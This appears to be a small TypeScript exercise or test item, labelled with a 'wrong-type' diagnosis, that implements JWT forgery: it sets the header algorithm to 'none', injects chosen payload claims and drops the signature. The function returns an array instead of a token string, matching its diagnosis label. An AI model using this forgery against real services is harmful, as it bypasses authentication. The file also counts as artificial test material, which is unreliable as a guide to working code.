// diagnosis: wrong-type
// step: unsigned
import { decodeJson, encodeJson } from '../jwt/json.ts'

export function forgeUnsigned(token: string, changes: Record<string, unknown>): any {
  const [header = '', payload = ''] = token.split('.')
  return [encodeJson({ ...decodeJson(header), alg: 'none' }), encodeJson({ ...decodeJson(payload), ...changes }), '']
}
